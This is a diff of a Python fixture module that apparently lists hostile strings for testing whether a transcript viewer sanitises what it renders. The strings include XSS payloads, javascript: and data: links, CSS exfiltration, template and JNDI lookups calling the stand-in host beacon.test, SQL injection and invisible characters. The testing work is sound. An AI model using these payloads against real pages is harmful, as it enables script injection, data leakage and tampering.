@@ -1,6 +1,6 @@
 """Texts that want to be more than text: every way we know in which a transcript could act on the page that shows it.
 
-A payload that runs says so by ``window.__fired``; one that fetches asks a host under ``beacon.test``, which nobody owns.
+A payload that runs says so by ``window.__fired``; one that fetches asks ``beacon.test``, which nobody owns.
 """
 
 from collections.abc import Iterator
@@ -32,7 +32,7 @@ _SCRIPT: Final = (
     f"<script/x>{FIRE}</script>",
     f"<scr<script>ipt>{FIRE}</scr</script>ipt>",
     f"<img src=x onerror={FIRE}>",
-    f"<img src=x onerror=&#116;op.__fired=1>",
+    "<img src=x onerror=&#116;op.__fired=1>",
     f"<img/src=`x`onerror={FIRE}>",
     f'<img src="x" onload="{FIRE}" onerror="{FIRE}" />',
     f"<image href=x onerror={FIRE}>",
@@ -88,7 +88,7 @@ _SVG: Final = (
     f"<svg><script>{FIRE}</script></svg>",
     f"<svg><script href=data:,{FIRE} /></svg>",
     f"<svg><script xlink:href={BEACON}/s.js></script></svg>",
-    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={FIRE}></svg>#x'>",
+    f"<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror={FIRE}></svg>#x'>",
     f"<svg><foreignObject><iframe srcdoc='<script>{FIRE}</script>'></iframe></foreignObject></svg>",
     f"<svg><animate onbegin={FIRE} attributeName=x dur=1s></svg>",
     f"<svg><a><animate attributeName=href values=javascript:{FIRE} /><text y=20>press</text></a></svg>",
@@ -118,7 +118,7 @@ _ADDRESSES: Final = (
     f"[press](javascript\\:{FIRE})",
     f"[press](%6aavascript:{FIRE})",
     f"[press](data:text/html,<script>{FIRE}</script>)",
-    f"[press](data:text/html;base64,PHNjcmlwdD50b3AuX19maXJlZD0xPC9zY3JpcHQ+)",
+    "[press](data:text/html;base64,PHNjcmlwdD50b3AuX19maXJlZD0xPC9zY3JpcHQ+)",
     f"[press](data:image/svg+xml,<svg onload={FIRE} xmlns='http://www.w3.org/2000/svg'/>)",
     f"[press](vbscript:{FIRE})",
     "[press](blob:http://beacon.test/1)",
@@ -139,12 +139,12 @@ _ADDRESSES: Final = (
     f"<{BEACON}/autolink>",
     f"{BEACON}/bare",
     "www.beacon.test/bare",
-    f"http://beacon.test/\"onmouseover=\"{FIRE}",
+    f'http://beacon.test/"onmouseover="{FIRE}',
     f"<http://beacon.test/\x00\x07{FIRE}>",
     f"[press][one]\n\n[one]: javascript:{FIRE}",
     f"[press][two]\n\n[two]: {BEACON}/r 'x\" onmouseover=\"{FIRE}'",
     f"[press]({BEACON}/t \"x' onmouseover='{FIRE}\")",
-    f"[press](x \"\" onmouseover={FIRE} x=\")",
+    f'[press](x "" onmouseover={FIRE} x=")',
     f"[<img src=x onerror={FIRE}>]({BEACON}/l)",
     f"[a[b](javascript:{FIRE})c]({BEACON})",
     f"[press]({BEACON}/%00%0d%0aSet-Cookie:x=1)",
@@ -160,7 +160,7 @@ _PICTURES: Final = (
     f"[![seen]({BEACON}/linked.png)]({BEACON}/on)",
     f"![x](javascript:{FIRE})",
     f'![x](x" onerror="{FIRE})',
-    f"![\" onerror=\"{FIRE}](x)",
+    f'![" onerror="{FIRE}](x)',
     f"![x](data:image/svg+xml,<svg onload={FIRE} xmlns='http://www.w3.org/2000/svg'/>)",
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5fX2ZpcmVkPTEiIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8yMDAwL3N2ZyIvPg==)",
     "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
@@ -174,7 +174,7 @@ _PICTURES: Final = (
     f"<link rel=dns-prefetch href={BEACON}><link rel=preconnect href={BEACON}>",
     f"<link rel=icon href={BEACON}/favicon.ico>",
     f"<link rel=modulepreload href={BEACON}/m.js><link rel=prerender href={BEACON}/p>",
-    f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{BEACON}/s\"]}}]}}</script>",
+    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{BEACON}/s"]}}]}}</script>',
     f"<a href={BEACON} ping={BEACON}/ping download>press</a>",
     f"<iframe src={BEACON}/frame loading=eager></iframe>",
     f"<input type=image src={BEACON}/button.png>",
@@ -189,10 +189,10 @@ _STYLE: Final = (
     f"<style>@font-face{{font-family:x;src:url({BEACON}/f.woff)}}*{{font-family:x}}</style>",
     f"<p style=\"background:url('{BEACON}/attribute.png')\">drawn</p>",
     "<p style='position:fixed;inset:0;z-index:9999;background:red'>covers everything</p>",
-    f"<div style=\"width:expression({FIRE});-moz-binding:url({BEACON}/b.xml#x)\">old</div>",
+    f'<div style="width:expression({FIRE});-moz-binding:url({BEACON}/b.xml#x)">old</div>',
     f"}}}} body {{ display: none }} a::before {{ content: url({BEACON}/c.png) }}",
     f"red;background:url({BEACON}/value.png)",
-    f"\"); background: url({BEACON}/close.png); x: (\"",
+    f'"); background: url({BEACON}/close.png); x: ("',
     "</style><style>main{display:none}</style>",
     "<b hidden inert aria-hidden=true>gone</b><dialog open>asks</dialog>",
 )
@@ -213,7 +213,7 @@ _CLOBBERING: Final = (
 )
 
 _MARKDOWN: Final = (
-    f"```\"><img src=x onerror={FIRE}>\ncode\n```",
+    f'```"><img src=x onerror={FIRE}>\ncode\n```',
     f"```html onload={FIRE} class=x\n<script>{FIRE}</script>\n```",
     "```__proto__\n1\n```\n\n```constructor\n2\n```\n\n```toString\n3\n```",
     f"`<img src=x onerror={FIRE}>`",
@@ -235,7 +235,7 @@ _MARKDOWN: Final = (
     "[a]: b 'c\n\nd'\n\n[a] [A] [ a ]",
     f"$\\href{{javascript:{FIRE}}}{{press}}$ $$\\includegraphics{{{BEACON}/m.png}}$$",
     f"$\\unicode{{<img src=x onerror={FIRE}>}}$ \\(\\def\\x{{\\x\\x}}\\x\\)",
-    f"```mermaid\ngraph LR; A[\"<img src=x onerror={FIRE}>\"] --> B; click A href \"javascript:{FIRE}\"\n```",
+    f'```mermaid\ngraph LR; A["<img src=x onerror={FIRE}>"] --> B; click A href "javascript:{FIRE}"\n```',
     "<!-- a comment that is never closed",
     "<a\nb\nc='d\n\ne",
     "a\\\nb  \nc\ttab\r\nd\re\x0bf\x0cg",
@@ -253,12 +253,12 @@ _TEMPLATES: Final = (
     "{msg.__class__.__mro__} {0.__globals__} %(x)s %n %s",
     "${env:HOME} ${jndi:ldap://beacon.test/a} $(id) `id` %PATH%",
     "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
-    "v-html=\"top.__fired=1\" ng-init=\"top.__fired=1\" x-data=\"{a:top.__fired=1}\"",
+    'v-html="top.__fired=1" ng-init="top.__fired=1" x-data="{a:top.__fired=1}"',
     "<div v-html=1 x-init=top.__fired=1 hx-get=http://beacon.test/h hx-trigger=load>x</div>",
     "constructor.constructor('top.__fired=1')()",
     "'; DROP TABLE audits; -- \" OR 1=1 UNION SELECT sql FROM sqlite_master",
-    "NEAR(a b, 2) AND (title:x* OR NOT \"y) ^ -z",
-    "(((((((((( \"\"\" *** ::: {} AND OR NOT NEAR",
+    'NEAR(a b, 2) AND (title:x* OR NOT "y) ^ -z',
+    '(((((((((( """ *** ::: {} AND OR NOT NEAR',
 )
 
 _DATA: Final = (
@@ -268,8 +268,8 @@ _DATA: Final = (
     "<!--<script>--></script>",
     f"]]></script><![CDATA[<script>{FIRE}</script>",
     f"\u2028{FIRE}\u2029//",
-    f"\"}}]}};{FIRE};//",
-    f"\\\"}});{FIRE};//",
+    f'"}}]}};{FIRE};//',
+    f'\\"}});{FIRE};//',
     "\\u003cscript\\u003etop.__fired=1\\u003c/script\\u003e",
     "__proto__",
     "constructor",
@@ -314,7 +314,8 @@ _UNSEEN: Final = (
     "\u115f\u1160\u3164\uffa0 letters that are not drawn",
     "\x00\x01\x02\x07\x08\x0b\x0c\x0e\x1b\x1f\x7f",
     "\x80\x85\x90\x9b\x9c\x9d\x9f",
-    "Z\u0351\u036b\u0343a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c" + "\u0315" * 60,
+    "Z\u0351\u036b\u0343a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c"
+    + "\u0315" * 60,
     "\ufffe\uffff\ufdd0\U0001ffff no characters",
     "\u2800\u00a0\u2003\u3000 spaces",
     "\U0001f469\u200d\U0001f4bb \U0001f1e6\U0001f1fa \U0001f3f4\U000e0067\U000e0062\U000e007f",
